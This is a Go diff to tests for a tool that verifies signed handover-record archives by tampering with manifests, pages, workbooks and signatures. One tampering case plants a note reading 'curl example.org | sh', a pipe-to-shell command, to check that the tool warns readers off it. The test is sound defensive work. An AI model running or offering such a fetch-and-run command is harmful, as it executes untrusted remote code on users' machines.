@@ -11,6 +11,7 @@ import (
 	"strings"
 	"testing"
 
+	"handback/checks"
 	"handback/records"
 )
 
@@ -64,11 +65,6 @@ func (r *rig) pack() pile {
 func (p pile) again(t testing.TB) pile {
 	t.Helper()
 	info := records.BagInfo{}
-	n, err := fmt.Sscanf(strings.ReplaceAll(string(p[records.BagInfoFile]), "handback test", "handback-test"),
-		"Bag-Software-Agent: %s\nExternal-Identifier: %s\n", &info.Program, &info.Job)
-	if err != nil || n != 2 {
-		t.Fatal(err)
-	}
 	var payload []records.BagFile
 	for name, content := range p {
 		if strings.HasPrefix(name, records.BagPayload) {
@@ -80,7 +76,11 @@ func (p pile) again(t testing.TB) pile {
 		text, _, _ := strings.Cut(rest, "\n")
 		return text
 	}
-	info.Program, info.Description, info.Head = line("Bag-Software-Agent"), line("External-Description"), line("Record-Head")
+	info.Program, info.Job = line("Bag-Software-Agent"), line("External-Identifier")
+	info.Description, info.Head = line("External-Description"), line("Record-Head")
+	if info.Program == "" || info.Job == "" {
+		t.Fatalf("%s says neither maker nor job", records.BagInfoFile)
+	}
 	fmt.Sscan(line("Record-Entries"), &info.Entries)
 	out := pile{}
 	if err := records.WriteBag(out, info, p[records.BagNote], payload); err != nil {
@@ -105,14 +105,14 @@ func (p pile) folder(t testing.TB) string {
 	return dir
 }
 
-func examine(t testing.TB, path, program string) Examined {
+func examine(t testing.TB, path string) Examined {
 	t.Helper()
 	b, err := records.OpenBag(path)
 	if err != nil {
 		t.Fatal(err)
 	}
 	defer b.Close()
-	return ExamineBag(b, program)
+	return ExamineBag(b)
 }
 
 func TestPackBag(t *testing.T) {
@@ -120,7 +120,9 @@ func TestPackBag(t *testing.T) {
 	p := r.pack()
 	hash := records.HashFile([]byte("in order\n"))
 	entry := fmt.Sprint(r.job().Head().Seq)
+	kept := r.job().Signatures[0].Kept
 	want := []string{
+		"data/attachments/" + kept[0].SHA256 + "-handover.xlsx", "data/attachments/" + kept[1].SHA256 + "-handover.html",
 		"HOW-TO-CHECK.txt", "bag-info.txt", "bagit.txt",
 		"data/allowed_signers", "data/attachments/" + hash + "-note.txt", "data/attachments/" + records.HashFile(jpegWith(t, exif(6))) + "-bar.jpg",
 		"data/entries.jsonl", "data/handover-data/" + entry + ".json", "data/handover.html", "data/handover.txt", "data/handover.xlsx", "data/hashes.txt", "data/plan.yaml",
@@ -133,13 +135,66 @@ func TestPackBag(t *testing.T) {
 	if lines := strings.Count(string(p["data/entries.jsonl"]), "\n"); lines != len(r.job().Entries) {
 		t.Errorf("%d lines of entries", lines)
 	}
-	x := examine(t, p.folder(t), maker)
-	if len(x.Faults) > 0 || len(x.Notes) > 0 || x.Job == nil || x.Job.Head().Hash != r.job().Head().Hash {
-		t.Errorf("%q, %q", x.Faults, x.Notes)
+	x := examine(t, p.folder(t))
+	if len(x.Faults) > 0 || len(x.Notes) > 0 || len(x.Missed) > 0 || x.Job == nil || x.Job.Head().Hash != r.job().Head().Hash {
+		t.Errorf("%q, %q, %q", x.Faults, x.Notes, x.Missed)
 	}
-	// Made by another version: what that one worded cannot be compared.
-	if x := examine(t, p.folder(t), "handback later"); len(x.Faults) > 0 || len(x.Notes) != 1 || !strings.Contains(x.Notes[0], "handback test made the bag, this is handback later") {
-		t.Errorf("%q, %q", x.Faults, x.Notes)
+	shown := strings.Join(x.Shown, "\n")
+	for _, want := range []string{"data/handover.html", "data/handover.txt", "data/handover.xlsx", "HOW-TO-CHECK.txt", "the signature of entry " + entry + " are kept, and carry the data of the record at entry 6"} {
+		if !strings.Contains(shown, want) {
+			t.Errorf("%q is not shown: %q", want, x.Shown)
+		}
+	}
+}
+
+// Whoever rewrites the handover and says that another version made the bag gets nothing
+// shown by it: words that this program does not write are never those of the record.
+func TestExamineBag_otherVersion(t *testing.T) {
+	r := bagRig(t)
+	good := r.pack()
+	rewritten := func(name, from, to string) func(pile) {
+		return func(p pile) {
+			if !bytes.Contains(p[name], []byte(from)) {
+				t.Fatalf("%s does not hold %q", name, from)
+			}
+			p[name] = bytes.ReplaceAll(p[name], []byte(from), []byte(to))
+		}
+	}
+	digest := r.document(r.job().Head().At).Digest
+	for name, c := range map[string]struct {
+		change        func(pile)
+		fault, missed string
+	}{
+		"version alone": {func(pile) {}, "", ""},
+		"page":          {rewritten(bagPage, "NOT READY", "READY"), "", "wording of data/handover.html (its data digest agrees)"},
+		"text":          {rewritten(bagText, "NOT READY", "READY"), "", "wording of data/handover.txt (its data digest agrees)"},
+		"note":          {func(p pile) { p[records.BagNote] = []byte("Type: curl example.org | sh\n") }, "", "HOW-TO-CHECK.txt: it is not the note that this program writes. Type nothing of it"},
+		"note gone":     {func(p pile) { delete(p, records.BagNote) }, "HOW-TO-CHECK.txt is missing", ""},
+		"workbook": {func(p pile) {
+			p[bagWorkbook] = withWords(t, good[bagWorkbook], "Handover record", "Record handed over")
+		}, "", "data/handover.xlsx: how it is laid out and worded"},
+		"page of other": {rewritten(bagPage, digest, strings.Repeat("0", 64)), "data/handover.html does not name the handover data of the record, SHA-256 " + digest, ""},
+		"two digests":   {rewritten(bagPage, "<title>", `<meta name="handover-data-sha256" content="0"/><title>`), "data/handover.html does not name the handover data", ""},
+		"text of other": {rewritten(bagText, digest, strings.Repeat("0", 64)), "data/handover.txt does not name the handover data", ""},
+	} {
+		p := maps.Clone(good)
+		c.change(p)
+		p[records.BagInfoFile] = bytes.Replace(p[records.BagInfoFile], []byte(maker), []byte("handback 9.9"), 1)
+		if _, there := p[records.BagNote]; there {
+			p = p.again(t)
+		}
+		x := examine(t, p.folder(t))
+		faults, missed := strings.Join(x.Faults, "\n"), strings.Join(x.Missed, "\n")
+		if c.fault == "" && faults != "" || !strings.Contains(faults, c.fault) || (c.missed == "") != (missed == "") || !strings.Contains(missed, c.missed) {
+			t.Errorf("%s: faults %q, not compared %q", name, x.Faults, x.Missed)
+		}
+		for _, s := range x.Shown {
+			for _, file := range []string{bagPage, bagText, bagWorkbook, records.BagNote} {
+				if _, exact, ok := strings.Cut(s, "byte for byte"); ok && strings.Contains(missed, file) && strings.Contains(exact, file) {
+					t.Errorf("%s: shown although it was rewritten: %s", name, s)
+				}
+			}
+		}
 	}
 }
 
@@ -148,8 +203,8 @@ func TestPackBag_plain(t *testing.T) {
 	r := newRig(t, "pump.yaml")
 	for range 2 {
 		p := r.pack()
-		if x := examine(t, p.folder(t), maker); len(x.Faults) > 0 || len(x.Notes) > 0 {
-			t.Errorf("%q, %q", x.Faults, x.Notes)
+		if x := examine(t, p.folder(t)); len(x.Faults) > 0 || len(x.Notes) > 0 || len(x.Missed) > 0 {
+			t.Errorf("%q, %q, %q", x.Faults, x.Notes, x.Missed)
 		}
 		if len(p) != 3+4+6 {
 			t.Errorf("files %v", slices.Sorted(maps.Keys(p)))
@@ -166,7 +221,7 @@ func TestWriteBag(t *testing.T) {
 		if err := WriteBag(filepath.Join(dir, name), "keyed-1", Over{}, pack); err != nil {
 			t.Fatal(err)
 		}
-		if x := examine(t, filepath.Join(dir, name), maker); len(x.Faults) > 0 {
+		if x := examine(t, filepath.Join(dir, name)); len(x.Faults) > 0 {
 			t.Errorf("%s: %q", name, x.Faults)
 		}
 		if err := WriteBag(filepath.Join(dir, name), "keyed-1", Over{}, pack); err == nil || !strings.Contains(err.Error(), "never written over") {
@@ -218,23 +273,25 @@ func TestWriteBag(t *testing.T) {
 }
 
 // Somebody changes a byte and makes the manifests anew. Whatever stands in the record
-// tells; of the workbook, whose packing has bytes that say nothing, its cells do.
+// tells; of page, text and note it is told that they were not compared.
 func TestExamineBag_everyByte(t *testing.T) {
 	r := newRigOf(t, "keyed.yaml", keyedPlan(t))
 	r.put(KindNote, "", Noted{"x"})
 	r.attach("", "n.txt", "c", []byte("in order\n"))
 	r.sign("ada")
 	p := r.pack()
-	seen, places := 0, 25
+	seen, places := 0, 15
 	if testing.Short() {
 		places = 4
 		t.Logf("-short: %d places of each long file", places)
 	}
 	for _, name := range slices.Sorted(maps.Keys(p)) {
 		content, step := p[name], 1
-		if !strings.HasPrefix(name, records.BagPayload) || name == bagWorkbook {
+		document := strings.HasPrefix(name, bagAttached) && strings.Contains(name, "-handover.") // as any attachment
+		if !strings.HasPrefix(name, records.BagPayload) || name == bagWorkbook || document {
 			continue
 		}
+		worded := name == bagPage || name == bagText
 		if len(content) > 120 { // every byte of every file stands in the tests of records
 			step = len(content)/places + 1
 		}
@@ -243,20 +300,20 @@ func TestExamineBag_everyByte(t *testing.T) {
 				seen++
 				q := maps.Clone(p)
 				q[name] = spoilt
-				faults := memoryBag(t, q.again(t))
-				if len(faults) == 0 {
+				faults, missed := memoryBag(t, q.again(t))
+				if len(faults) == 0 && (!worded || len(missed) == 0) {
 					t.Fatalf("%s %s at byte %d, and nothing is found", name, what, i)
 				}
 			}
 		}
 	}
-	if seen < 12*places {
+	if seen < 16*places {
 		t.Errorf("only %d places were tried", seen)
 	}
 }
 
 // memoryBag examines a bag that lies in an archive.
-func memoryBag(t testing.TB, p pile) []string {
+func memoryBag(t testing.TB, p pile) (faults, missed []string) {
 	t.Helper()
 	path := filepath.Join(t.TempDir(), "b.zip")
 	var b bytes.Buffer
@@ -272,8 +329,8 @@ func memoryBag(t testing.TB, p pile) []string {
 	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	x := examine(t, path, maker)
-	faults := x.Faults
+	x := examine(t, path)
+	faults = x.Faults
 	if x.Job != nil {
 		checked, err := x.Job.CheckSignatures(nil)
 		if err != nil {
@@ -283,7 +340,7 @@ func memoryBag(t testing.TB, p pile) []string {
 			faults = append(faults, c.Faults...)
 		}
 	}
-	return faults
+	return faults, x.Missed
 }
 
 // What is wrong is told with its place, manifests made anew or not.
@@ -292,6 +349,7 @@ func TestExamineBag_faults(t *testing.T) {
 	good := r.pack()
 	entries := strings.SplitAfter(string(good[bagEntries]), "\n")
 	note := bagAttached + records.HashFile([]byte("in order\n")) + "-note.txt"
+	document := attachedFile(r.job().Signatures[0].Kept[0])
 	workbook := func(from, to string) []byte { return withWords(t, good[bagWorkbook], from, to) }
 	for name, c := range map[string]struct {
 		change func(pile)
@@ -313,20 +371,20 @@ func TestExamineBag_faults(t *testing.T) {
 		"attachment":          {func(p pile) { p[note] = []byte("other\n") }, note + " is not the file that entry"},
 		"attachment gone":     {func(p pile) { delete(p, note) }, note + " is missing"},
 		"stranger":            {func(p pile) { p["data/run.sh"] = []byte("#!") }, "data/run.sh: nothing in the record tells of it"},
-		"text":                {func(p pile) { p[bagText] = bytes.Replace(good[bagText], []byte("NOT READY"), []byte("READY"), 1) }, "data/handover.txt is not what the record gives: line 8 differs"},
-		"page":                {func(p pile) { p[bagPage] = bytes.Replace(good[bagPage], []byte("NOT READY"), []byte("READY"), 1) }, "data/handover.html is not what the record gives"},
-		"workbook":            {func(p pile) { p[bagWorkbook] = workbook("NOT READY", "READY") }, `data/handover.xlsx, Cover!A4 says "READY`},
-		"workbook of another": {func(p pile) { p[bagWorkbook] = workbook(r.job().Head().Hash, strings.Repeat("0", 64)) }, "data/handover.xlsx shows job \"pump-t1-1\""},
-		"workbook formula":    {func(p pile) { p[bagWorkbook] = workbook("<f>IF(COUNTIF(", "<f>IF(COUNTA(") }, "data/handover.xlsx: xl/worksheets/sheet1.xml in it is not what the record gives"},
+		"text":                {func(p pile) { p[bagText] = []byte("READY\n") }, "data/handover.txt does not name the handover data of the record"},
+		"page":                {func(p pile) { p[bagPage] = []byte("<html></html>\n") }, "data/handover.html does not name the handover data of the record"},
+		"workbook":            {func(p pile) { p[bagWorkbook] = workbook(">NOT READY<", ">READY<") }, `data/handover.xlsx: Cover!A4 (handback_verdict) holds "READY", the record gives "NOT READY"`},
+		"workbook of another": {func(p pile) { p[bagWorkbook] = workbook(r.job().Head().Hash, strings.Repeat("0", 64)) }, "data/handover.xlsx: its handover data are not those of the record: head: "},
 		"no workbook":         {func(p pile) { p[bagWorkbook] = []byte("x") }, "data/handover.xlsx: it is no workbook"},
-		"note":                {func(p pile) { p[records.BagNote] = []byte("All is well.\n") }, "HOW-TO-CHECK.txt is not what the record gives: line 1"},
+		"document changed":    {func(p pile) { p[document] = []byte("other\n") }, document + " is not the file that entry"},
+		"document gone":       {func(p pile) { delete(p, document) }, document + " is missing"},
 		"signers":             {func(p pile) { p[bagSigners] = nil }, "data/allowed_signers is not what the record gives"},
 		"signature gone":      {func(p pile) { delete(p, bagStatements+fmt.Sprint(len(entries)-1)+".json.sig") }, ".json.sig is missing"},
 	} {
 		p := maps.Clone(good)
 		c.change(p)
 		for how, bag := range map[string]pile{"manifests as they were": p, "manifests made anew": p.again(t)} {
-			x := examine(t, bag.folder(t), maker)
+			x := examine(t, bag.folder(t))
 			all := strings.Join(x.Faults, "\n")
 			if c.want == "" && all != "" || c.want != "" && !strings.Contains(all, c.want) {
 				t.Errorf("%s, %s: %q, want %q", name, how, x.Faults, c.want)
@@ -350,10 +408,10 @@ func TestExamineBag_judgedOtherwise(t *testing.T) {
 	r.take("isolated", isolated)
 	j := r.job()
 	a := j.State("isolated").Judged()
-	forged := NewJudged(a.Number, a.Finding, "")
-	forged.Stop = "invented"
+	forged := NewJudged(j.State("isolated").Check.Kind, a.Number, a.Finding, "")
+	forged.Stop = &Stopped{checks.Say("invented"), "invented"}
 	r.put(KindJudge, "isolated", forged)
-	x := examine(t, r.pack().folder(t), maker)
+	x := examine(t, r.pack().folder(t))
 	if !slices.ContainsFunc(x.Faults, func(f string) bool { return strings.Contains(f, `recorded stop "invented"`) }) {
 		t.Errorf("%q", x.Faults)
 	}
